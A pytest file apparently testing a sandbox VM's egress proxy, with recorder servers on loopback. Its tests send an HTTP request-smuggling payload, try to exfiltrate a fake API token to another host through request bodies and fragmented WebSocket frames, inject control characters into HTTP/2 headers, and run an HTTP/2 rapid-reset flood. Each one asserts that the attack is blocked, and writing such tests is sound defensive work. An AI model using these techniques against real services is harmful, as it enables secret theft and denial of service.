"""Issue 11, egress items 1-4, with a real guest and an upstream on loopback that records every byte.

The recorder is a raw TCP server (optionally TLS) in a thread of this process: it keeps each
connection's bytes, parses them with its own h11 state machine only to know where requests end,
and answers ``ok`` (``/redirect?to=URL`` -> 302, ``/reflect`` -> the request's ``x-key`` header
back, ``/ws`` -> 101 then it just records). Each test compares what it received with
``vm.network.events()``. No real secret value is ever printed: assertions on them are booleans.
"""

from __future__ import annotations

import secrets
import socket
import ssl
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import parse_qs, urlsplit

import h11
import pytest

from gondolin import VM
from gondolin.http import Decision, Secret, create_http_hooks

from .netservers import loopback_resolver, make_pki

pytestmark = [pytest.mark.anyio, pytest.mark.vm]

NAMES = ["api.test", "other.test"]
REAL = "sk_test_" + secrets.token_hex(20)  # fake credential, fresh per run


@dataclass
class Seen:
    raw: bytearray = field(default_factory=bytearray)
    requests: list[tuple[str, str]] = field(default_factory=list)  # (method, target), complete ones


class Recorder:
    """A loopback upstream that keeps every byte of every connection."""

    def __init__(self, tls: ssl.SSLContext | None = None) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.tls = tls
        self.connections: list[Seen] = []
        self.lock = threading.Lock()
        threading.Thread(target=self._accept, daemon=True).start()

    @property
    def raw(self) -> bytes:
        with self.lock:
            return b"".join(bytes(c.raw) for c in self.connections)

    def requests(self) -> list[tuple[str, str]]:
        with self.lock:
            return [r for c in self.connections for r in c.requests]

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _serve(self, conn: socket.socket) -> None:
        seen = Seen()
        with self.lock:
            self.connections.append(seen)
        try:
            if self.tls is not None:
                conn = self.tls.wrap_socket(conn, server_side=True)
            parser = h11.Connection(h11.SERVER)
            request: h11.Request | None = None
            while True:
                event = parser.next_event()
                if event is h11.NEED_DATA:
                    data = conn.recv(65536)
                    seen.raw += data
                    parser.receive_data(data)
                    continue
                if isinstance(event, h11.Request):
                    request = event
                elif isinstance(event, h11.EndOfMessage) and request is not None:
                    seen.requests.append((request.method.decode(), request.target.decode()))
                    if self._answer(conn, parser, request, seen):
                        return
                    parser.start_next_cycle()
                elif isinstance(event, h11.ConnectionClosed):
                    return
        except (OSError, ssl.SSLError, h11.ProtocolError):
            return
        finally:
            conn.close()

    def _answer(self, conn: socket.socket, parser: h11.Connection, request: h11.Request, seen: Seen) -> bool:
        url = urlsplit(request.target.decode())
        headers = {n.decode().lower(): v.decode() for n, v in request.headers}
        if url.path == "/ws":
            conn.sendall(parser.send(h11.InformationalResponse(
                status_code=101, headers=[("upgrade", "websocket"), ("connection", "Upgrade")])))
            while data := conn.recv(65536):
                seen.raw += data
            return True
        status, extra, body = 200, [], b"ok\n"
        if url.path == "/redirect":
            status, extra = 302, [("location", parse_qs(url.query)["to"][0])]
        elif url.path == "/reflect":
            body = headers.get("x-key", "").encode()
        conn.sendall(parser.send(h11.Response(status_code=status, headers=[
            ("content-length", str(len(body))), *extra])))
        conn.sendall(parser.send(h11.Data(data=body)) + parser.send(h11.EndOfMessage()))
        return False

    def close(self) -> None:
        self.sock.close()


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Recorder | bytes]]:
    pki = make_pki(tmp_path_factory.mktemp("hardening-pki"), NAMES)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(pki.cert_file, pki.key_file)
    ups = {"http": Recorder(), "https": Recorder(ctx), "https2": Recorder(ctx)}
    yield {**ups, "ca": pki.ca_pem}
    for r in ups.values():
        r.close()


def hooks_for(upstreams: dict, **kwargs: object) -> tuple:
    S = upstreams["https"].port
    return create_http_hooks(
        allowed_internal_hosts=NAMES,
        secrets={"API_TOKEN": Secret(REAL, hosts=[f"api.test:{S}"])},  # https only (the default)
        resolver=loopback_resolver(), upstream_ca_pem=upstreams["ca"], **kwargs)


@pytest.fixture(scope="module")
async def vm(upstreams):
    hooks, env = hooks_for(upstreams)
    async with await VM.create(memory="512M", http_hooks=hooks, env=env) as machine:
        yield machine


async def sh(vm: VM, command: str, **kw: object) -> str:
    r = await vm.exec(["/bin/bash", "-c", command], **kw)
    leaked = REAL in r.stdout + r.stderr
    assert not leaked, "the real secret value reached the guest's output"
    return r.stdout + r.stderr


def ports(upstreams: dict) -> str:
    return f"H={upstreams['http'].port} S={upstreams['https'].port} S2={upstreams['https2'].port}"


# Sends argv[3] (escapes decoded) to argv[1]:argv[2], over TLS when argv[4] == "tls"; prints the
# first line of the answer.
RAW = r"""
import socket, ssl, sys
host, port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode().decode("unicode_escape").encode("latin-1")
s = socket.create_connection((host, port), timeout=30)
if len(sys.argv) > 4:
    s = ssl.create_default_context().wrap_socket(s, server_hostname=host)
s.sendall(payload)
out = b""
while b"\r\n" not in out:
    data = s.recv(4096)
    if not data:
        break
    out += data
print(out.split(b"\r\n")[0].decode())
"""


def allowed(vm: VM, path: str) -> list:
    return [e for e in vm.network.events() if e.path == path and e.decision is Decision.ALLOWED]


# -- item 1 -----------------------------------------------------------------------------------


async def test_content_length_with_chunked_is_400_and_nothing_reaches_the_upstream(vm, upstreams):
    await vm.fs.write("/tmp/raw.py", RAW)
    before = len(upstreams["http"].connections)
    req = r"POST /smuggle HTTP/1.1\r\nHost: api.test:%d\r\nContent-Length: 10\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    out = await sh(vm, f"python3 /tmp/raw.py api.test {upstreams['http'].port} '{req % upstreams['http'].port}'")
    assert out.startswith("HTTP/1.1 400"), out
    assert len(upstreams["http"].connections) == before and b"/smuggle" not in upstreams["http"].raw
    (event,) = [e for e in vm.network.events() if e.path == "/smuggle"]
    assert (event.decision, event.status) == (Decision.REJECTED, 400)


async def test_every_request_an_upstream_receives_has_exactly_one_allowed_event(vm, upstreams):
    """HTTP/1.1 cleartext and TLS, HTTP/2, a redirect, a guest body that breaks off mid-way."""
    p = ports(upstreams)
    await vm.fs.write("/tmp/raw.py", RAW)
    broken = r"POST /inv/broken HTTP/1.1\r\nHost: api.test:%s\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\nzz\r\n"
    await sh(vm, f"{p}; curl -s http://api.test:$H/inv/h1 -o /dev/null; "
                 "curl -s --http1.1 https://api.test:$S/inv/tls -o /dev/null; "
                 "curl -s --http2 https://api.test:$S/inv/h2a https://api.test:$S/inv/h2b -o /dev/null -o /dev/null; "
                 "curl -s \"https://api.test:$S/redirect?to=/inv/after\" -o /dev/null; "
                 "curl -s -X POST --data-binary @/etc/hostname https://other.test:$S/inv/post -o /dev/null; "
                 f"python3 /tmp/raw.py api.test $H '{broken % upstreams['http'].port}'")
    received = [t for r in (upstreams["http"], upstreams["https"]) for _, t in r.requests() if "/inv/" in t
                or t.startswith("/redirect?to=/inv")]
    for target in received:
        path = urlsplit(target).path
        assert len(allowed(vm, path)) == received.count(target) == 1, (path, vm.network.events())
    assert {urlsplit(t).path for t in received} >= {"/inv/h1", "/inv/tls", "/inv/h2a", "/inv/h2b",
                                                    "/redirect", "/inv/after", "/inv/post"}
    # The broken body reached the upstream only as an incomplete request, and has one event.
    (broken_event,) = [e for e in vm.network.events() if e.path == "/inv/broken"]
    assert broken_event.status == 400


# -- item 2 -----------------------------------------------------------------------------------


async def test_secret_is_only_substituted_for_its_scheme_and_port(vm, upstreams):
    p = ports(upstreams)
    marker = "scope-" + secrets.token_hex(4)
    out = await sh(vm, f"{p}; for u in https://api.test:$S http://api.test:$H https://api.test:$S2; do "
                       f"curl -s -o /dev/null -w '%{{http_code}} ' -H \"X-Key: $API_TOKEN\" $u/{marker}; done")
    assert out.split() == ["200", "403", "403"], out
    got = {name: REAL.encode() in r.raw for name, r in upstreams.items() if isinstance(r, Recorder)}
    assert got == {"http": False, "https": True, "https2": False}, "the value went out of its scope"
    reasons = [e.reason for e in vm.network.events() if e.path == f"/{marker}" and e.decision is Decision.BLOCKED]
    assert len(reasons) == 2 and all("over" in r for r in reasons)


async def test_redirect_from_https_to_http_is_not_substituted_again(vm, upstreams):
    H, S = upstreams["http"].port, upstreams["https"].port
    to = f"http://api.test:{H}/after-downgrade"
    out = await sh(vm, f"curl -s -w ' %{{http_code}}' -H \"X-Key: $API_TOKEN\" \"https://api.test:{S}/redirect?to={to}\"")
    assert out.endswith("403") and "redirect" in out, out
    assert b"/after-downgrade" not in upstreams["http"].raw
    assert REAL.encode() not in upstreams["http"].raw


# -- item 3 -----------------------------------------------------------------------------------

# Reads the value the guest "learnt" from /tmp/learnt (never printed) and sends it on.
LEARN = 'curl -s -H "X-Key: $API_TOKEN" https://api.test:$S/reflect > /tmp/learnt'


async def test_learnt_value_in_a_body_or_websocket_frame_to_another_host_is_blocked(vm, upstreams):
    p = ports(upstreams)
    await sh(vm, f"{p}; {LEARN}")
    small = await sh(vm, f"{p}; curl -s -w ' %{{http_code}}' --data-binary @/tmp/learnt https://other.test:$S/exfil-small")
    large = await sh(vm, f"{p}; (head -c 2000000 /dev/zero; cat /tmp/learnt; head -c 5000 /dev/zero) > /tmp/big; "
                         "curl -s -w ' %{http_code}' --data-binary @/tmp/big https://other.test:$S/exfil-large")
    assert small.endswith("403") and large.endswith("403"), (small, large)
    ws = r"""
import os, socket, ssl, sys
v = open("/tmp/learnt", "rb").read()
s = ssl.create_default_context().wrap_socket(socket.create_connection(("other.test", int(sys.argv[1]))), server_hostname="other.test")
s.sendall(b"GET /ws HTTP/1.1\r\nHost: other.test:%s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n" % sys.argv[1].encode())
print(s.recv(4096).split(b"\r\n")[0].decode())
def frame(p, op=1, fin=True):
    k = os.urandom(4)
    return bytes([0x80 * fin | op, 0x80 | len(p)]) + k + bytes(b ^ k[i % 4] for i, b in enumerate(p))
s.sendall(frame(b"hello"))
s.sendall(frame(v[:10], fin=False))
s.sendall(frame(v[10:], op=0))
s.settimeout(10)
try:
    print("closed" if not s.recv(4096) else "open")
except (OSError, ssl.SSLError):
    print("closed")
"""
    await vm.fs.write("/tmp/ws.py", ws)
    out = await sh(vm, f"python3 /tmp/ws.py {upstreams['https'].port}")
    assert out.split() == ["HTTP/1.1", "101", "Switching", "Protocols", "closed"], out
    other = b"".join(bytes(c.raw) for c in upstreams["https"].connections if b"other.test" in c.raw)
    assert REAL.encode() not in other, "a learnt value reached another host"
    assert REAL[10:].encode() not in other
    blocked = [e for e in vm.network.events() if e.decision is Decision.BLOCKED and e.host == "other.test"]
    assert {e.path for e in blocked} >= {"/exfil-small", "/exfil-large", "/ws"}
    assert not [t for _, t in upstreams["https"].requests() if t == "/exfil-small"]


async def test_redact_responses_hides_reflected_values(upstreams):
    hooks, env = hooks_for(upstreams, redact_responses=True)
    async with await VM.create(memory="512M", http_hooks=hooks, env=env) as machine:
        out = await sh(machine, f"curl -s -H \"X-Key: $API_TOKEN\" https://api.test:{upstreams['https'].port}/reflect")
        assert out == env["API_TOKEN"]


# -- item 4 -----------------------------------------------------------------------------------

# A minimal HTTP/2 client (HPACK literals only): argv: host port mode; mode "bad" sends one
# request with a control character in a header value, "reset" opens and cancels streams until
# the server ends the connection, then prints the GOAWAY error code.
H2 = r"""
import socket, ssl, struct, sys
host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
ctx = ssl.create_default_context(); ctx.set_alpn_protocols(["h2"])
s = ctx.wrap_socket(socket.create_connection((host, port), timeout=30), server_hostname=host)
assert s.selected_alpn_protocol() == "h2"
def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload
def lit(n, v):
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
def headers(sid, extra=b""):
    block = lit(b":method", b"GET") + lit(b":scheme", b"https") + lit(b":authority", f"{host}:{port}".encode())
    return frame(1, 5, sid, block + lit(b":path", b"/h2-%s-%d" % (mode.encode(), sid)) + extra)
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
if mode == "bad":
    s.sendall(headers(1, lit(b"x-bad", b"a\x01b")) + headers(3, lit(b"x-bad", b"a\x7fb")))
    wanted = 2
else:
    for sid in range(1, 2 * 400, 2):
        s.sendall(headers(sid) + frame(3, 0, sid, struct.pack(">I", 8)))
buf = b""
while True:
    try:
        data = s.recv(65536)
    except (OSError, ssl.SSLError):
        data = b""
    if not data:
        print("eof"); break
    buf += data
    while len(buf) >= 9:
        n = int.from_bytes(buf[:3], "big")
        if len(buf) < 9 + n: break
        t, payload, buf = buf[3], buf[9:9 + n], buf[9 + n:]
        if t == 7:
            print("goaway", int.from_bytes(payload[4:8], "big")); sys.exit()
        if t == 1 and mode == "bad":
            wanted -= 1
            if not wanted:
                print("answered"); sys.exit()
"""


async def test_h2_control_characters_are_refused_and_never_forwarded(vm, upstreams):
    await vm.fs.write("/tmp/h2raw.py", H2)
    out = await sh(vm, f"python3 /tmp/h2raw.py api.test {upstreams['https'].port} bad")
    assert out.strip() == "answered", out
    assert b"/h2-bad" not in upstreams["https"].raw
    events = [e for e in vm.network.events() if e.path.startswith("/h2-bad")]
    assert [(e.decision, e.status) for e in events] == [(Decision.REJECTED, 400)] * 2


async def test_h2_rapid_reset_ends_the_connection_without_upstream_requests(vm, upstreams):
    before = len(upstreams["https"].connections)
    out = await sh(vm, f"python3 /tmp/h2raw.py api.test {upstreams['https'].port} reset", timeout=120)
    assert out.strip() == "goaway 11", out  # ENHANCE_YOUR_CALM
    assert len(upstreams["https"].connections) - before <= 2
    assert len([t for _, t in upstreams["https"].requests() if t.startswith("/h2-reset")]) <= 2
